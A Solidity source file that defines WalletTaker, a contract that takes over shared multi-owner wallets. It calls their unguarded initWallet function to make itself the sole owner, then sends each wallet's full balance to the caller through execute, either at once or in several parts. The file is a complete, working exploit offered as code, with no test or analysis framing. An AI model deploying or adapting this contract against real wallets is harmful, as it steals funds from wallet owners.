// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface ISharedWallet {
    function initWallet(address[] calldata owners, uint256 required, uint256 dayLimit) external;

    function execute(address to, uint256 value, bytes calldata data) external returns (uint256);

    function addOwner(address owner) external;
}

/// Initialises wallets again with itself as an owner whose word is enough.
contract WalletTaker {
    function run(ISharedWallet[] calldata wallets) external {
        for (uint256 i = 0; i < wallets.length; i++) {
            become(wallets[i], type(uint256).max);
            wallets[i].execute(msg.sender, address(wallets[i]).balance, "");
        }
    }

    /// Without a day limit: every payment is a proposal, confirmed by the only voice that counts.
    function runByProposal(ISharedWallet wallet, uint256 parts) external {
        become(wallet, 0);
        uint256 part = address(wallet).balance / parts;
        for (uint256 i = 0; i < parts; i++) wallet.execute(msg.sender, part, "");
    }

    function become(ISharedWallet wallet, uint256 dayLimit) private {
        address[] memory owners = new address[](1);
        owners[0] = address(this);
        wallet.initWallet(owners, 1, dayLimit);
    }
}
